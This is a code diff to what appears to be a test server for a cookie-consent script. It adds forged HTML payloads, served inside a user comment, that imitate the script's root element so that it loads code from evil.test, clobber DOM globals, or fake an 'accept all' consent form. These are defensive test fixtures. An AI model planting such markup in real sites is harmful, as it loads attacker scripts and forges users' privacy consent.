@@ -128,6 +128,40 @@ async def scripts(request: Request) -> Response:
     return html(document("Skript", body, nonce=nonce), headers={"Content-Security-Policy": csp})
 
 
+# User content that imitates the snippet's root, as an HTML sanitiser lets it through (id and
+# data-* kept): it stands earlier in the page than the real snippet.
+FORGED = {
+    "steer": (
+        '<div id="consentmw-root" data-config=\'{"gaSrc":"https://evil.test/x.js",'
+        '"prefix":"https://evil.test/p","ga":"G-EVIL"}\' data-granted="analytics" '
+        'data-decided="true"></div>'
+    ),
+    "loader": (
+        '<div id="consentmw-root" data-consentmw-snippet data-config=\'{"gaSrc":'
+        '"https://evil.test/x.js","ga":"G-EVIL","categories":["analytics"]}\'></div>'
+    ),
+    "gpc": '<div id="consentmw-root" data-config=\'{"prefix":"https://evil.test/p"}\'></div>',
+    "clobber": '<a id="consentmwGa" href="https://evil.test/"></a><div id="dataLayer"></div>',
+    "form": (
+        '<form data-cmw-banner method="get" action="/news"><button name="action" '
+        'value="accept_all">Les mer</button></form>'
+    ),
+}
+
+
+async def comment(request: Request) -> Response:
+    """A page with a user comment holding forged consentmw markup, under a nonce-only CSP."""
+    nonce = secrets.token_urlsafe(16)
+    forged = FORGED[request.path_params["kind"]]
+    body = f'<article><p>Kommentar:</p><div class="comment">{forged}</div></article>' + FILLER
+    csp = (
+        f"script-src 'nonce-{nonce}'; style-src 'nonce-{nonce}'; "
+        "object-src 'none'; base-uri 'none'"
+    )
+    page = document("Kommentarer", body, nonce=nonce)
+    return html(page, headers={"Content-Security-Policy": csp})
+
+
 async def slow_js(request: Request) -> Response:
     await asyncio.sleep(0.3)  # loads after the next inline script would have run
     js = 'window.__ran.push("external:" + document.currentScript.getAttribute("data-x"));'
@@ -144,6 +178,7 @@ routes = [
     Route("/privacy", privacy),
     Route("/scripts", scripts),
     Route("/slow.js", slow_js),
+    Route("/comment/{kind}", comment),
 ]
 
 MARKETING = Category(
